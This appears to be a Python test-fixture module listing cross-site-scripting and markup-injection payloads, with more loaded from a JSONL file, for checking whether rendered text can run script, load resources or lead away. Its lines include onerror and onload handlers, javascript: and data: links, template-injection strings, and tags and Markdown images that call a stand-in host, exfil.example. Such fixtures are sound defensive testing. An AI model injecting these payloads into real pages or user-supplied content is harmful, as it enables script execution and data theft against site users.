"""What would run, load or lead away if any of it became markup."""

from __future__ import annotations

import json
from pathlib import Path

MARKUP = (
    '<img src=x onerror="window.pwned=1">',
    "<script>window.pwned=1</script>",
    '<script src="//exfil.example/a.js"></script>',
    '"><svg onload=window.pwned=1>',
    "'><iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<a href=javascript:window.pwned=1>open</a>",
    "<details open ontoggle=window.pwned=1>x</details>",
    "<style>@import url(https://exfil.example/a.css)</style>",
    '<link rel=prefetch href="https://exfil.example/b">',
    "<form action=https://exfil.example/c><button>Ask</button></form>",
    "<object data=https://exfil.example/d></object>",
    "<base href=https://exfil.example/>",
    "<meta http-equiv=refresh content='0;url=https://exfil.example/e'>",
    "</textarea></div><img src=https://exfil.example/f.png>",
    "&lt;img src=x onerror=window.pwned=1&gt;",
    "\\u003cimg src=x onerror=window.pwned=1\\u003e",
    "${window.pwned=1} {{constructor.constructor('window.pwned=1')()}}",
    "<x-y style='background:url(https://exfil.example/g)'>z</x-y>",
)
LINKS = (
    "[report](javascript:window.pwned=1)",
    "[report](data:text/html,<script>window.pwned=1</script>)",
    "[report][r] and [r]: https://exfil.example/h",
    "![pixel](https://exfil.example/i.png?q=1)",
    "<https://exfil.example/j>",
    "https://exfil.example/k?d=passages",
)
_FILE = Path(__file__).parents[1] / "data" / "attacks_markup.jsonl"
"""What others have collected, and injections with links, pictures and bidi tricks; each line names where it is from."""

COLLECTED = tuple(json.loads(line)["text"] for line in _FILE.read_text(encoding="utf-8").splitlines())
ATTACKS = (*MARKUP, *LINKS, *COLLECTED)
